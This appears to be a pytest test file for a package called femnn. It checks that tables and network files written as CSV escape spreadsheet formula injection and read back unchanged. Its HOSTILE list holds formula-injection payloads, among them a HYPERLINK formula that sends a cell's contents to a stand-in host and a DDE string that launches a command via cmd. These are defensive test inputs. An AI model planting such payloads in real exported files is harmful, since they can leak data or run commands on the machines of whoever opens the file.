"""Texts from elsewhere in tables that femnn writes: no formulas, and the same again when they are read."""

import csv
from dataclasses import replace
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from femnn.measured.measured_gradient import MeasuredGradient, read_gradients, write_gradients
from femnn.network.lattices import li2024
from femnn.network.port import Port
from femnn.network_files.csv_reader import read_network
from femnn.network_files.csv_writer import write_csv
from femnn.study.store import write_table
from femnn.tables.csv_text import quoted, unquoted
from femnn.tables.table import read_table

pytestmark = pytest.mark.serial

HOSTILE = [
    '=HYPERLINK("http://x/?"&A1)', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)",
    "\t=1", " =1", "'=1", "＝1+1", "-a", "=", "\n=1",
]  # fmt: skip
PLAIN = ["setosa", "-1.5", "+2e-3", "-", "1–2", "a=b", "'s", "", "–", "5 mm"]


@pytest.mark.parametrize("text", [*HOSTILE, *PLAIN])
def test_what_is_written_is_no_formula_and_comes_back(text: str) -> None:
    written = quoted(text)
    assert unquoted(written) == text
    assert (written != text) == (text in HOSTILE)
    assert written[:1] not in ("=", "+", "@", "\t", "\n", " ", "＝") or text in PLAIN


def test_tables_of_a_run_hold_no_formula(tmp_path: Path) -> None:
    """Names of classes and of columns come from a user's file."""
    table = pd.DataFrame({"=1+1": HOSTILE, "class": HOSTILE, "value": np.arange(-1.0, 10.0)})
    write_table(tmp_path / "table.csv", table)
    with (tmp_path / "table.csv").open(newline="", encoding="utf-8") as file:
        cells = [cell for row in csv.reader(file) for cell in row]
    assert not [cell for cell in cells if cell[:1] in "=+@\t" and cell != ""]
    found = read_table(tmp_path / "table.csv")
    assert found.head == ("=1+1", "class", "value")
    assert found.column("class") == [text.strip() if text[0] not in "\t \n" else text for text in HOSTILE]


def test_names_of_ports_and_cases_come_back(tmp_path: Path) -> None:
    network = li2024()
    gradient = MeasuredGradient("=1+1", np.ones(28), np.ones(28), np.ones(28))
    write_gradients(tmp_path / "gradient.csv", network, [gradient])
    assert list(read_gradients(tmp_path / "gradient.csv", network)) == ["=1+1"]
    port = {"=cmd": Port(13, (0.0, 1.0))}
    write_csv(replace(network, inputs=port), tmp_path / "network.csv")
    assert "\n=cmd" not in (tmp_path / "network.csv").read_text()
    assert list(read_network(tmp_path / "network.csv").inputs) == list(port)


@pytest.mark.parametrize("direction", ["-x", "+y", "-z"])
def test_directions_stay_as_tables_have_always_had_them(direction):
    """Scripts compare them; two letters run nothing."""
    assert quoted(direction) == direction
